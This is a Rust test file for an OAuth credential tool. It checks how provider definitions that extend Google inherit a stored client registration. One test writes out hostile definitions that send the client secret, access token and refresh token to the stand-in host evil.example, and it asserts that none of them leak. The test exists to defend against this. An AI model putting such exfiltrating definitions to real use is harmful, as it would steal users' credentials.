//! One registration of a client for all services of a vendor: a definition that extends another shares what the person has
//! entered for it, as long as the secret goes where it was entered for.

use std::sync::{Arc, Mutex};

use authkeep_testkit::home::run;
use authkeep_testkit::message::{Received, Reply};
use serde_json::{Value, json};

use super::issuer::{Issuer, is_client_by_body, refused, value};
use super::{Abroad, CLIENT, shipped};

/// Google, and somebody who would like to be.
fn google(issuer: &mut Issuer, request: &Received) -> Reply {
    match (&*request.host, &*request.path) {
        ("accounts.google.com", _) => issuer.agrees(request),
        ("oauth2.googleapis.com", "/token")
            if is_client_by_body(request) && issuer.redeems(request) =>
        {
            Reply::json(200, &issuer.tokens())
        }
        ("oauth2.googleapis.com", "/revoke") => Reply::json(200, &json!({})),
        ("openidconnect.googleapis.com", _) if issuer.is_bearer(request) => {
            Reply::json(200, &json!({"email": "ada@example.com"}))
        }
        ("evil.example", "/token") => Reply::json(200, &issuer.tokens()),
        _ => refused(&value(request, "grant_type").unwrap_or_default()),
    }
}

fn world() -> (Abroad, Arc<Mutex<Issuer>>) {
    let abroad = Abroad::new();
    let hosts = [
        "accounts.google.com",
        "oauth2.googleapis.com",
        "openidconnect.googleapis.com",
        "www.googleapis.com",
        "evil.example",
    ];
    let issuer = abroad.house(&hosts, Issuer::default(), google);
    (abroad, issuer)
}

#[test]
fn who_has_logged_in_to_google_is_asked_for_no_client_by_its_services() {
    let (abroad, _) = world();
    let child = ["login", "google-calendar", "--no-input"];
    // The control: before that, somebody has to say it.
    assert_ne!(abroad.run(&child).code, 0);
    let output = abroad.login("google", &["--flow", "authorization_code"]);
    assert_eq!(output.code, 0, "{output:?}");
    let listed = || -> Value {
        let output = abroad.run(&["list", "--json"]);
        serde_json::from_str(&output.stdout).unwrap()
    };
    let state = |listed: &Value| {
        let providers = listed["providers"].as_array().unwrap();
        let found = providers
            .iter()
            .find(|p| p["provider"] == "google-calendar");
        found.unwrap()["state"].clone()
    };
    assert_eq!(state(&listed()), "configured");
    let output = abroad.run(&child);
    assert_eq!(output.code, 0, "{output:?}");
    assert_eq!(state(&listed()), "connected");
    assert_eq!(abroad.run(&["refresh", "google-calendar"]).code, 0);

    // What ends there leaves the client of the other alone …
    assert_eq!(abroad.run(&["revoke", "google-calendar"]).code, 0);
    assert_eq!(abroad.run(&child).code, 0);
    // … and one of its own comes first.
    let own = ["--force", "--client-id", "own"];
    let mut login = abroad.command(&[&child[..], &own].concat());
    let output = run(login.env("GOOGLE_CLIENT_SECRET", "own-secret-of-this-one"));
    assert_ne!(output.code, 0, "{output:?}");
    let seen = abroad
        .world
        .seen_at("accounts.google.com", "/o/oauth2/v2/auth");
    let last = seen.last().unwrap();
    assert_eq!(last.parameter("client_id"), Some("own"));
    assert_eq!(seen[1].parameter("client_id"), Some(CLIENT[0]));
}

#[test]
fn a_definition_that_sends_it_elsewhere_shares_nothing() {
    let (abroad, _) = world();
    assert_eq!(
        abroad
            .login("google", &["--flow", "authorization_code"])
            .code,
        0
    );
    let before = abroad.world.hosts_that_got(&[CLIENT[1]]);
    let evil = |change: fn(&mut Value)| {
        let mut definition = json!({
            "schema_version": 2, "name": "google-free", "display_name": "Free", "extends": "google",
        });
        change(&mut definition);
        abroad.product.home().write_definition(&definition);
        let output = abroad.run(&["login", "google-free", "--no-input", "--timeout", "2"]);
        assert_ne!(output.code, 0, "{output:?}");
    };
    let changes: [fn(&mut Value); 4] = [
        |d| d["oauth"] = json!({"token_url": "https://evil.example/token"}),
        |d| d["oauth"] = json!({"token_params": {"copy_to": "https://evil.example"}}),
        |d| {
            let params = json!({"s": "{client_secret}", "t": "{token}"});
            d["oauth"] =
                json!({"upgrade": {"url": "https://evil.example/token", "params": params}});
        },
        |d| {
            let params = json!({"s": "{client_secret}", "t": "{refresh_token}"});
            d["oauth"] =
                json!({"refresh": {"url": "https://evil.example/token", "params": params}});
        },
    ];
    changes.into_iter().for_each(evil);
    assert_eq!(abroad.world.hosts_that_got(&[CLIENT[1]]), before);
    assert_eq!(before, ["oauth2.googleapis.com"]);
    // The control: a definition that changes none of that is given it, and who enters it anew sends it where he says.
    let definition = json!({
        "schema_version": 2, "name": "google-free", "display_name": "Free", "extends": "google",
        "flows": ["authorization_code"],
    });
    abroad.product.home().write_definition(&definition);
    let output = abroad.run(&["login", "google-free", "--no-input"]);
    assert_eq!(output.code, 0, "{output:?}");
    assert_eq!(shipped("google-calendar")["extends"], "google");
}

#[test]
fn who_overrides_the_parent_of_the_parent_goes_round_no_circle() {
    let abroad = Abroad::new();
    abroad.product.home().write_definition(&json!({
        "schema_version": 2, "name": "google", "display_name": "Mine", "extends": "google-calendar",
    }));
    for provider in ["google", "google-calendar"] {
        let output = abroad.run(&["login", provider, "--no-input"]);
        assert_ne!(output.code, 0, "{output:?}");
        assert!(output.stderr.contains("client id"), "{output:?}");
    }
}
